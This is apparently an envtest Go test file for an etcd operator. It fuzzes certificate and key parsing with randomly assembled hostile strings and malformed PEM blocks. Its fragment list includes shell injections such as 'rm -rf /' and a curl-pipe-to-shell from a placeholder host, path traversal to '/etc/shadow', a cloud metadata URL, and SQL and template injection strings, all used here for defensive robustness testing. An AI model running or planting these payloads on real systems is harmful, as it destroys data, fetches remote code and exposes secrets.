// Copyright The etcd-operator Authors.
// SPDX-License-Identifier: Apache-2.0

//go:build envtest

package v1beta1_test

import (
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/etcd-operator/etcd-operator/api/v1beta1"
	"github.com/etcd-operator/etcd-operator/internal/certs"
	"github.com/etcd-operator/etcd-operator/internal/cluster/specs"
)

// fragments are what has broken programs before: shells, templates, paths, flags of etcd, ends of lines and of texts, other scripts.
var fragments = []string{
	"$(reboot)", "`id`", "; rm -rf /", " && curl evil.example|sh", "| sh", "${IFS}", "$PATH", "$$(HOSTNAME)", "$(HOSTNAME)", "$(ETCDCTL_KEY)",
	"../", "..", "/../../etc/shadow", "/etc/etcd-tls/peer.key", "..\\", "./", "//", "~", "file:///etc/passwd", "%2e%2e%2f", "%s%n",
	"--force-new-cluster", "--data-dir=/", "=", " --name=x", ",", "-", "--", "*", "?", "#", "&", "@", ":", ";", "!", "^", "(", ")", "<", ">",
	"'", "\"", "\\", "\\n", "\n", "\r\n", "\t", "\x00", "\x1b[2J", "\x7f", "\u202e", "\u200b", "é", "ｅｔｃｄ", "💥", "\ufeff", " ",
	"{{.Values.x}}", "{%", "<script>", "!!python/object", "&a *a", "key: value", "null", "true", "0", "-1", "0x41", "1e309", "NaN",
	"\"}, \"verb\": \"delete", "]}", "' OR 1=1", "etcd-operator.dev/forced", "app.kubernetes.io/name", "kubernetes.io/", "system:masters",
	"http://", "https://169.254.169.254/", "user:pass@host", "[::1]:2379", "localhost:2379", "\\u0024(A)",
}

// plainParts are what ordinary values are made of: text that is all fragments is refused for its first one.
var plainParts = []string{"a", "b1", "etcd", "example.com/", "team", "v3.6.16", "x-y", "long" + strings.Repeat("g", 60)}

// hostile makes texts that are the same with the same seed.
type hostile struct{ *rand.Rand }

func pick(h hostile, from []string) string { return from[h.IntN(len(from))] }

// text is one to four parts, half of them hostile; now and then a very long one.
func (h hostile) text() string {
	var out strings.Builder
	for range 1 + h.IntN(4) {
		if h.IntN(2) == 0 {
			out.WriteString(pick(h, fragments))
		} else {
			out.WriteString(pick(h, plainParts))
		}
	}
	if h.IntN(25) == 0 {
		return strings.Repeat(out.String()+"a", 200)
	}
	return out.String()
}

// pem is something that begins as a certificate or a key does.
func (h hostile) pem() []byte {
	kinds := []string{"CERTIFICATE", "RSA PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY", h.text()}
	body := pick(h, []string{"", "AAAA", "!!!!", strings.Repeat("MIIB", 5000), h.text(), "\x00\x01"})
	return []byte(pick(h, []string{
		"-----BEGIN " + pick(h, kinds) + "-----\n" + body + "\n-----END " + pick(h, kinds) + "-----\n",
		"-----BEGIN " + pick(h, kinds) + "-----\n" + body, h.text(), "",
	}))
}

// TestHostilePEM: what is no certificate with its key is reported, without its content, and never ends the operator.
func TestHostilePEM(t *testing.T) {
	h := hostile{rand.New(rand.NewPCG(hostileSeed, 1))}
	c := &v1beta1.EtcdCluster{}
	c.Name, c.Namespace = "hostile", "default"
	for range 200 {
		body := h.pem()
		held := certs.Read(c, func(string) *corev1.Secret {
			return &corev1.Secret{Data: map[string][]byte{
				"tls.crt": body, "tls.key": h.pem(), "ca.crt": h.pem(), specs.ServerCertKey: body, specs.ServerKeyKey: h.pem(),
				specs.PeerCertKey: h.pem(), specs.PeerKeyKey: body, specs.ClientCAKey: h.pem(), specs.PeerCAKey: body,
			}}
		})
		for _, name := range certs.Names(c) {
			err := held.Fault(c, name, time.Now())
			if err == nil {
				t.Errorf("%s is good with %q", name, body)
			} else if len(body) > 40 && strings.Contains(err.Error(), string(body[30:])) {
				t.Errorf("%s: %v", name, err)
			}
		}
		_ = held.Lost(c, c.PeerCA(), time.Now())
		_ = held.Ending(c, time.Now())
	}
}
